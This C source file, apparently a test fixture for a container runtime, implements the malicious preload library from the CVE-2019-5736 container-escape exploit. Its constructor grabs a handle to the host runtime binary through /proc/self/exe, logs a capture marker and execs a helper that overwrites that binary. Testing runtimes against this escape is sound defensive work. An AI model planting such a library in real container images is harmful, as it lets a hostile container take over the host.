/*
 * CVE-2019-5736 from inside, as the published exploit's malicious library
 * did it: a hostile image ships this as a shared library and names it in
 * LD_PRELOAD (or replaces a library the runtime loads). When the kernel runs
 * the runtime's binary inside the container for a `#!/proc/self/exe` script,
 * the constructor runs in that process: it opens /proc/self/exe with O_PATH
 * (the binary it is running: the host's runtime), notes it in /result
 * ($EVIL_RESULT when set), and execs /exe_overwrite --fd N RESULT, which
 * waits until nothing executes the
 * binary any more and writes to it. Static programs (busybox, berth-exec)
 * never load it.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void) {
    char link[256], line[400], fd_s[16];
    int fd = open("/proc/self/exe", O_PATH);
    const char *result = getenv("EVIL_RESULT") ? getenv("EVIL_RESULT") : "/result";
    int r;
    ssize_t n;
    if (fd < 0) return;
    n = readlink("/proc/self/exe", link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    snprintf(line, sizeof line, "CAPTURED pid=%d link=%s\n", getpid(), link);
    r = open(result, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    if (r >= 0) {
        if (write(r, line, strlen(line)) < 0) {}
        close(r);
    }
    snprintf(fd_s, sizeof fd_s, "%d", fd);
    execl("/exe_overwrite", "exe_overwrite", "--fd", fd_s, result, (char *)0);
}
